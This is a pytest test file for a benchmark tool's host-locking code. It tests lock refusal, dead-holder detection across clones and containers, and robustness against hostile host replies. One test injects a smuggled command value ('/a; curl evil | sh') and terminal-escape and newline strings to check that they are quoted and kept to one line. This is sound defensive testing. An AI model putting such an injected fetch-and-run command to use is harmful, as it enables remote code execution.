"""Holding this machine for a run, by real sockets, and telling a living holder from a dead one."""

from __future__ import annotations

import contextlib
import fcntl
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from fake_hosts import FakeHosts

from cbt_crypto.cluster_overlays import OVERLAYS
from cbt_crypto.cluster_overlays.tuned import Tuned
from cbt_crypto.engine.embedded import common
from cbt_crypto.errors import HostError, UsageError
from cbt_crypto.hosts.remote import Remote
from cbt_crypto.hosts.site import Drive, Osd, Site
from cbt_crypto.plan.file import read_campaign
from cbt_crypto.plan.layout import whole_site
from cbt_crypto.run import hold_on_host, locks
from cbt_crypto.run.interrupt import Abandoned
from cbt_crypto.run.locks import free_hosts, hosts_held, resources_of

pytestmark = pytest.mark.unit


def site(tmp_path: Path, name: str = "tmp", *devices: str) -> Site:
    osds = tuple(
        Osd(n, "localhost", device, f"/d/{n}", "/s", "/p") for n, device in enumerate(devices)
    )
    return Site(str(tmp_path / name), "/c", "localhost", ("127.0.0.1",), osds)


def remote(one: Site) -> Remote:
    return Remote(common, one.tmp_dir)


def me(archive: Path) -> dict[str, Any]:
    return locks.this_run(archive)


def keepers(one: Site) -> list[Path]:
    """The processes that hold this machine for a run in `one`'s directory."""
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with contextlib.suppress(OSError):
            text = path.read_bytes()
            if b'"action": "hold"' in text and one.tmp_dir.encode() in text:
                found.append(path)
    return found


@pytest.fixture
def ended_process() -> Iterator[int]:
    process = subprocess.Popen([sys.executable, "-c", ""])
    process.wait()
    yield process.pid


def test_the_second_run_is_refused_with_the_name_of_the_first(tmp_path: Path) -> None:
    one = site(tmp_path)
    with (
        hosts_held(remote(one), one, "first", me(tmp_path / "a")),
        pytest.raises(UsageError) as refused,
        hosts_held(remote(one), one, "second", me(tmp_path / "b")),
    ):
        pytest.fail("held twice")
    sentence = str(refused.value).splitlines()[0]
    assert f"tmp_dir {one.tmp_dir} is in use by " in sentence
    assert f"(process {os.getpid()}, archive {tmp_path}/a, since 2" in sentence
    with hosts_held(remote(one), one, "second", me(tmp_path / "b")):
        pass


def test_two_names_of_one_machine_are_no_two_runs(tmp_path: Path) -> None:
    one = site(tmp_path)
    assert one.hosts == ("localhost", "127.0.0.1")
    with hosts_held(remote(one), one, "first", me(tmp_path)):
        assert len(keepers(one)) == 1
    assert keepers(one) == []


def test_one_device_by_two_names_is_one(tmp_path: Path) -> None:
    (tmp_path / "disk").touch()
    (tmp_path / "link").symlink_to(tmp_path / "disk")
    one = site(tmp_path, "one", str(tmp_path / "disk"))
    two = site(tmp_path, "two", str(tmp_path / "link"))
    assert resources_of(two)["localhost"][1] == ("device", str(tmp_path / "link"))
    with (
        hosts_held(remote(one), one, "first", me(tmp_path)),
        pytest.raises(UsageError, match=f"device {tmp_path}/link is in use by "),
        hosts_held(remote(two), two, "second", me(tmp_path)),
    ):
        pytest.fail("held twice")
    three = site(tmp_path, "three")
    with (
        hosts_held(remote(one), one, "first", me(tmp_path)),
        hosts_held(remote(three), three, "second", me(tmp_path)),
    ):
        pass


def test_a_drive_without_ceph_is_held_too(tmp_path: Path) -> None:
    drive = Drive("d", "localhost", ("/dev/x", "/dev/y"), f"{tmp_path}/drives/d")
    held = resources_of(replace(site(tmp_path), drives=(drive,)))
    assert held["localhost"][1:] == [("device", "/dev/x"), ("device", "/dev/y")]


def test_a_host_has_one_campaign_s_tuned_profile(host: Any, no_overlays: None) -> None:
    """Two with tmp_dirs of their own: the second took the first's profile for the host's own."""
    OVERLAYS["tuned"] = Tuned
    host.programs("tuned-adm", 'echo "Current active profile: balanced"')
    tuned = {"configurations": {"A": {}, "B": {"tuned": {"profile": "his"}}}}
    his = read_campaign(host.write(cluster={**tuned, "tmp_dir": str(host.directory / "his")}))
    place = whole_site(his)
    assert resources_of(place)["localhost"][1:] == [("overlay", "tuned")]
    with hosts_held(remote(place), place, "first", me(host.directory / "a")):
        refused = host.cbt(host.write(cluster=tuned))
        assert refused.exit_code == 2
        assert "localhost: overlay tuned is in use by " in refused.output
        assert host.cbt(host.write()).exit_code == 0, "without it they go on beside each other"


def test_a_dead_run_s_hosts_are_taken_over(tmp_path: Path, ended_process: int) -> None:
    one = site(tmp_path)
    dead = {**me(tmp_path), "pid": ended_process}
    with pytest.raises(Abandoned), hosts_held(remote(one), one, "first", dead):
        raise Abandoned  # which frees nothing
    with (
        hosts_held(remote(one), one, "second", me(tmp_path)),
        pytest.raises(UsageError),
        hosts_held(remote(one), one, "third", me(tmp_path)),
    ):
        pytest.fail("held twice")


def test_a_run_of_another_machine_is_never_held_to_be_dead(
    tmp_path: Path, ended_process: int
) -> None:
    one = site(tmp_path)
    far = {**me(tmp_path / "a"), "pid": ended_process, "host": "elsewhere", "user": "eve\x1b[2J"}
    with (
        hosts_held(remote(one), one, "first", far),
        pytest.raises(UsageError) as refused,
        hosts_held(remote(one), one, "second", me(tmp_path)),
    ):
        pytest.fail("held twice")
    assert "eve?[2J@elsewhere" in str(refused.value)
    assert f"if it is dead run on elsewhere: cbt-crypto cleanup {tmp_path}/a" in str(refused.value)
    # What holds the host is left where the last answer was lost, and a cleanup finds no more.
    assert re.search(r"; where that finds nothing left, end process \d+ on ", str(refused.value))


def test_a_host_that_does_not_answer_the_last_question_is_named(
    tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    """It was held from then on for all other machines, and nothing said so."""
    one = site(tmp_path)

    class Silent(Remote):
        def run(self, scripts: Any, what: str, timeout: Any = None) -> dict[str, str]:
            if what == "free the host":
                raise HostError("localhost", what, "no answer within 60 s", "")
            return super().run(scripts, what, timeout)

    with hosts_held(Silent(common, one.tmp_dir), one, "first", me(tmp_path)):
        pass
    said = capfd.readouterr().err
    assert "localhost" in said and "it may be held still" in said and said.count("\n") == 1
    free_hosts(remote(one), one, "first")
    assert not keepers(one)


@pytest.mark.parametrize(
    "holder", [{"pid": 5}, {"stranger": 7, "keeper": "1\nerror: c"}, {"pid": "1\nerror: d"}]
)
def test_a_hostile_host_has_one_line_and_no_command(tmp_path: Path, holder: Any) -> None:
    """Its answer printed `error: ...` as a line of its own, and a command to be pasted."""
    one = Site(str(tmp_path), "/c", "evil", (), ())
    told = {"host": "x\nerror: a", "archive": "/a; curl evil | sh", **holder}
    answer = {"resource": ["tmp_dir", "/t\nerror: b"], "holder": told}
    hosts = FakeHosts(lambda host, command: f"busy {json.dumps(answer)}")
    with (
        pytest.raises(UsageError) as refused,
        hosts_held(hosts.remote(), one, "mine", me(tmp_path)),
    ):
        pytest.fail("held")
    said = str(refused.value)
    assert len(said.splitlines()) == 1
    assert "stranger" in holder or "cbt-crypto cleanup '/a; curl evil | sh'" in said


def test_what_a_lock_says_is_one_line(tmp_path: Path) -> None:
    with open(tmp_path / ".lock", "w", encoding="utf-8") as file:
        file.write("eve\nerror: disk on fire")
        file.flush()
        fcntl.flock(file, fcntl.LOCK_EX)
        with pytest.raises(UsageError) as refused, locks.locked(tmp_path):
            pytest.fail("held twice")
    assert len(str(refused.value).splitlines()) == 1


def test_another_s_hold_is_not_freed(tmp_path: Path) -> None:
    one = site(tmp_path)
    with hosts_held(remote(one), one, "first", me(tmp_path)):
        free_hosts(remote(one), one, "second")
        with (
            pytest.raises(UsageError),
            hosts_held(remote(one), one, "second", me(tmp_path)),
        ):
            pytest.fail("held twice")


@pytest.mark.parametrize(
    ("changes", "dead"),
    [
        ({}, False),
        ({"started": 1}, True),
        ({"pid": "4711"}, True),
        ({"boot": "another"}, True),
        ({"boot": "another", "hardware": {"cards": "here"}}, True),
        ({"boot": "another", "hardware": {"cards": "there"}}, None),
        ({"boot": "another", "hardware": {"cards": "here", "uuid": "there"}}, None),
        ({"boot": "another", "hardware": {"uuid": {}, "more": 1}}, None),
        ({"boot": "another", "hardware": {}}, None),
        ({"boot": "another", "hardware": None}, None),
        ({"host": "elsewhere"}, None),
        ({"machine": "another"}, None),
    ],
)
def test_who_is_dead(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, changes: dict[str, Any], dead: Any
) -> None:
    monkeypatch.setattr(locks, "hardware", lambda: {"cards": "here", "uuid": "here"}, raising=False)
    assert locks.is_dead({**me(tmp_path), **changes}) is dead


def test_a_living_run_on_a_clone_of_this_head_keeps_its_hosts(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two heads of one image: by its other boot, the run on the other one was taken for dead."""
    one = site(tmp_path)
    boot = "11111111-1111-1111-1111-111111111111 pid:[4026531836]"
    there = {**me(tmp_path / "a"), "boot": boot, "pid": 4242, "hardware": {"cards": "there"}}
    monkeypatch.setattr(locks, "hardware", lambda: {"cards": "here"}, raising=False)
    with hosts_held(remote(one), one, "first", there) as hold:
        with (
            pytest.raises(UsageError, match=r"wait for it, or if it is dead run on "),
            hosts_held(remote(one), one, "second", me(tmp_path / "b")),
        ):
            pytest.fail("held twice")
        assert len(keepers(one)) == 1
        hold.check()


def test_a_run_that_cannot_be_seen_from_here_is_not_dead(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Of two containers of one image, with the host's network, one took over the other's hosts."""
    boot = me(tmp_path)["boot"].split()[0]
    there = {**me(tmp_path), "boot": f"{boot} pid:[1]", "user": "alice"}
    if me(tmp_path)["boot"].endswith(" pid:[4026531836]") and os.geteuid() == 0:
        assert locks.is_dead(there) is True
    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    assert locks.is_dead(there) is None, "the processes of another user"
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    real = os.readlink

    def readlink(path: str) -> str:
        return "pid:[2]" if path == "/proc/self/ns/pid" else real(path)

    monkeypatch.setattr(os, "readlink", readlink)
    assert locks.is_dead(there) is None, "the processes of another container"


def test_hardware_is_what_clones_do_not_share() -> None:
    """Its values are in journals, which are published: as digests."""
    known = locks.hardware()
    assert set(known) <= {"cards", "uuid"} and known == locks.hardware()
    assert all(len(value) == 64 for value in known.values())


# -- what hosts answer ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "said",
    ["Welcome to node1!\nbusy {}", "", "hel", "held\nheld", "busy {", 'busy {"resource": []}',
     'busy {"resource": ["a", "b"], "holder": 3}', "busy " + "[" * 5000, "x" * 5000],
)  # fmt: skip
def test_only_held_is_held(tmp_path: Path, said: str) -> None:
    """A head got past the lock of a living campaign where the answer did not begin with `busy`."""
    one = Site(str(tmp_path), "/c", "a", (), ())
    with (
        pytest.raises(
            UsageError, match=r"^a: hold the host: an answer that cannot be understood: "
        ),
        hosts_held(FakeHosts(lambda *_: said).remote(), one, "first", me(tmp_path)),
    ):
        pytest.fail("held")


def test_one_host_s_word_that_a_run_is_dead_frees_no_other_host(tmp_path: Path) -> None:
    """A hostile host freed every host of a living run, by calling its process dead."""
    one = Site(str(tmp_path), "/c", "good", ("evil",), ())
    dead = {**me(tmp_path), "pid": 0, "run": "abcd"}
    living = {**me(tmp_path), "run": "abcd"}

    def say(host: str, command: str) -> str:
        if '"action": "hold"' in command:
            holder = dead if host == "evil" else living
            return "busy " + json.dumps({"resource": ["tmp_dir", "/t"], "holder": holder})
        return "free"

    hosts = FakeHosts(say)
    with (
        pytest.raises(UsageError, match="good: tmp_dir /t is in use by "),
        hosts_held(hosts.remote(), one, "mine", me(tmp_path)),
    ):
        pytest.fail("held")
    freed = [
        host for call in hosts.calls for host, text in call.items()
        if '"action": "free"' in text and '"run": "abcd"' in text
    ]  # fmt: skip
    assert freed == ["evil"]


def test_an_interrupt_while_hosts_are_asked_leaves_none_of_them_held(tmp_path: Path) -> None:
    one = Site(str(tmp_path), "/c", "a", (), ())

    def say(host: str, command: str) -> str:
        if '"action": "hold"' in command:
            raise KeyboardInterrupt
        return "free"

    hosts = FakeHosts(say)
    with (
        pytest.raises(KeyboardInterrupt),
        hosts_held(hosts.remote(), one, "first", me(tmp_path)),
    ):
        pytest.fail("held")
    assert '"action": "free"' in hosts.calls[-1]["a"]


def test_who_binds_a_name_without_listening_is_not_named(tmp_path: Path) -> None:
    """What /proc/net/unix says of it, another user wrote: root was told to end somebody else's."""
    one = site(tmp_path)
    address, *_ = hold_on_host.addresses(["tmp_dir", one.tmp_dir])
    with (
        contextlib.closing(socket.socket(socket.AF_UNIX)) as bound,
        pytest.MonkeyPatch.context() as patched,
    ):
        bound.bind(address)
        patched.setattr(hold_on_host, "PATIENCE_S", 0)
        assert hold_on_host.insist(address) == {}
    hosts = FakeHosts(lambda host, command: 'busy {"resource": ["tmp_dir", "/t"], "holder": {}}')
    with (
        pytest.raises(UsageError, match=r"is held by what does not answer; .* in: ss -xap$"),
        hosts_held(hosts.remote(), one, "mine", me(tmp_path)),
    ):
        pytest.fail("held")


def test_a_run_in_another_time_namespace_is_not_dead(tmp_path: Path) -> None:
    """Its start is told by another clock there: a living run was taken over."""
    there = {**me(tmp_path), "started": 12345, "clock": "time:[1]"}
    assert locks.is_dead(there) is False
    assert locks.is_dead({**there, "pid": 2**22 + 1}) is True
    assert locks.is_dead({**me(tmp_path), "started": 12345}) is True


def test_a_keeper_that_many_ask_at_once_is_waited_for(tmp_path: Path) -> None:
    """Any user could have a held directory look free, and its keeper stay for ever."""
    address, *_ = hold_on_host.addresses(["tmp_dir", site(tmp_path).tmp_dir])
    with contextlib.ExitStack() as stack:
        keeper = stack.enter_context(socket.socket(socket.AF_UNIX))
        keeper.bind(address)
        keeper.listen(0)
        others = [stack.enter_context(socket.socket(socket.AF_UNIX)) for _ in range(3)]
        for other in others:
            other.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                other.connect(address)

        def answer() -> None:
            time.sleep(0.5)
            with contextlib.suppress(OSError):
                while True:
                    client = keeper.accept()[0]
                    client.sendall(b'{"run": "mine"}')
                    client.close()

        threading.Thread(target=answer, daemon=True).start()
        assert hold_on_host.ask(address) == {"run": "mine", "keeper": os.getpid()}
        keeper.shutdown(socket.SHUT_RDWR)
